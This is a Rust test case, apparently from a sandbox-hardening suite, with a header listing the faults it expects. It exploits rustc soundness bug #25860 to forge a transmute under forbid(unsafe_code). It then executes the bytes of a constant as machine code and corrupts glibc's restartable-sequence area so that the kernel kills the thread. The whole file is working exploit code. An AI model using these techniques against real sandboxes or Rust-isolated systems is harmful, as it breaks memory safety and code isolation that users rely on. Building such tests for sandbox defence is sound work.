//! attack  : 115_hole_restartable_sequence
//! class   : hole
//! what    : Has the kernel look for a restartable sequence where nothing is: it kills the thread when it is next preempted.
//! profile : std   (smallest guest profile in which this compiles)
//! calls   : ""
//! expect.status = FAULT|TIMEOUT|WORKER_LOST
//! expect.worker = same|restarted
//! expect.next_ok = true
//! expect.fd_delta = 0
#![forbid(unsafe_code)]
#![allow(unused, unconditional_recursion, clippy::all)]

// --- soundness-hole helper (rust-lang/rust#25860, higher-ranked form; open, compiles on rustc 1.95 and 1.97-nightly) ---
fn tr<'a, 'b, T: ?Sized>(_v: &'a &'b (), b: &'b mut T) -> &'a mut T {
    b
}
fn ext<T: ?Sized + 'static>(x: &mut T) -> &'static mut T {
    let f: fn(&'static &'static (), &mut T) -> &'static mut T = tr;
    f(&&(), x)
}
#[allow(dead_code)]
fn transmute<A: 'static, B: 'static>(obj: A) -> B {
    enum D<A, B> {
        #[allow(dead_code)]
        A(Option<Box<A>>),
        B(Option<Box<B>>),
    }
    #[inline(never)]
    fn inner<A: 'static, B: 'static>(d: &mut D<A, B>, obj: A) -> B {
        let D::B(r) = d else { unreachable!() };
        let r = ext(r);
        *d = D::A(Some(Box::new(obj)));
        std::hint::black_box(d);
        *r.take().unwrap()
    }
    inner(std::hint::black_box(&mut D::B(None)), obj)
}

// --- machine code from safe code: a constant is the operand of an instruction, and its bytes can be run in their own right ---
#[allow(dead_code)]
fn rd<T: Copy + 'static>(p: usize) -> T {
    *transmute::<usize, &'static T>(p)
}
#[inline(never)]
fn constant<const CODE: u64>() -> u64 {
    std::hint::black_box(CODE)
}
fn run<const CODE: u64>(a: u64, b: u64) -> u64 {
    let start = constant::<CODE> as fn() -> u64 as usize;
    let is_here = |at: &usize| (0..8).all(|i| rd::<u8>(at + i) == CODE.to_le_bytes()[i]);
    let at = (start..start + 64).find(is_here).expect("the constant is in the code");
    transmute::<usize, extern "C" fn(u64, u64) -> u64>(at)(a, b)
}
pub fn attack(_input: &[u8]) -> Vec<u8> {
    // rdfsbase rax; ret
    let thread = run::<0x9090c3c0ae0f48f3>(0, 0) as usize;
    // `rseq_cs` of the area that glibc 2.36 registers, behind `struct pthread`.
    *transmute::<usize, &'static mut u64>(thread + 2336 + 8) = 0x1000;
    loop {
        std::hint::black_box(());
    }
}
